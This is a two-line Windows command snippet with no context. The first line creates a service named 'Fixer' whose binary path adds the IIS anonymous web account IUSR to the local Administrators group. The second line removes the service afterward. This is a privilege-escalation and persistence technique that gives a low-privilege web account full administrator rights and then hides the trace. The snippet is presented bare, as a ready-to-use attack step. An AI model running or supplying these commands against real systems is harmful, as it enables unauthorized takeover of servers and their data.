sc create Fixer binPath= "cmd /c net localgroup Administrators IUSR /add"
instsrv Fixer remove
